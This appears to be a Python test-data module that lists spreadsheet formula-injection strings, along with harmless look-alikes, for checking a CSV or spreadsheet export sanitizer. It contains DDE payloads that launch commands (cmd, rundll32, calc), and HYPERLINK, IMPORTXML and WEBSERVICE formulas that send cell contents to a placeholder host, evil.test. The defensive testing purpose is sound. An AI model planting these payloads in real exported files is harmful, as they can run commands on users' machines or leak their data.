"""Texts that a spreadsheet program would run: each formula, behind each start, in each disguise; and look-alikes."""

FORMULAS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.test?x="&A1,"click")',
    'IMPORTXML("http://evil.test","//a")',
    'WEBSERVICE("http://evil.test/"&A1)',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "A1",
    'EXEC("calc")',
]
STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "=-", "+=", "-@", "@="]
DISGUISES = ["", "\t", "\r", "\n", "\r\n", " ", "\u00a0", "\ufeff", "\u200b", "\x00", '"', "\t\n "]
SEPARATED = ["a,{}", "a;{}", 'a";{};"', 'a",{},"', "a\t{}", "a\n{}", "a\r\n{}", "a, {}"]

DANGEROUS = [
    *(f"{start}{formula}" for start in STARTS for formula in FORMULAS),
    *(f"{disguise}={formula}" for disguise in DISGUISES for formula in FORMULAS),
    *(f"{disguise}{start}{FORMULAS[1]}" for disguise in DISGUISES for start in STARTS),
    *(each.format(f"={formula}") for each in SEPARATED for formula in FORMULAS),
    *("%1", "|cmd", 'DDE ("cmd";"/C calc";"!A0")A0', "dde(1)", "- item", "@ada"),
]
HARMLESS = [
    *("-1.3", "+1.3", "-1,3", "- 5", "-1.234,56 €", "-12.50 EUR", "+5 %", "-1e5", "-.5", "-", "---", "+"),
    *("+49 30 1234-56", "+49 (0)30 123456", "+4930123456", "+1-202-555-0100", "+44.20.7946.0000"),
    *(
        "1+2",
        "Foo",
        "1.3",
        "1,2",
        "Foo Bar",
        "foo@example.org",
        "",
        " ",
        "a = b",
        "100 %",
        "x|y",
        "2026-05-01",
    ),
    *(
        "007",
        "1e5",
        "TRUE",
        "'quoted'",
        "'",
        "''",
        "it's",
        "a, - b",
        "first\n- second\n- third",
        "see (1), -2",
        "Ä; ö",
    ),
    *(
        "#REF!",
        "#N/A",
        "_x0041_",
        "x005F_x",
        "\\x41",
        "\x00\x07\x1b[31m",
        "a\r\nb",
        "\r",
        "\ufffe",
        "  spaces  ",
        "é",
        "🙂",
    ),
]
ALL = list(dict.fromkeys([*DANGEROUS, *HARMLESS, *(f"'{text}" for text in DANGEROUS[::7])]))
